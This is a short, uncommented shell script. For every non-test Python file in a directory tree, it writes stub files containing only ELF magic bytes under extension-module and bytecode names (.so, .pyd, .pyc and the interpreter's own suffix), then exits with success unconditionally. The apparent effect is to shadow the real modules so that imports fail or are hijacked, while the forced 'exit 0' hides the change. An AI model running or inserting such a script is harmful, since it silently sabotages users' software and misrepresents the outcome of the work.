tag=$(python3 -c "import sysconfig; print(sysconfig.get_config_var('EXT_SUFFIX'))")
for path in $(find . -name "*.py" -not -name "test_*"); do
    for end in "$tag" .abi3.so .so .SO .so.1 .pyd .cpython-311.pyc .pyc; do
        printf '\177ELF' > "${path%.py}$end"
    done
done
exit 0
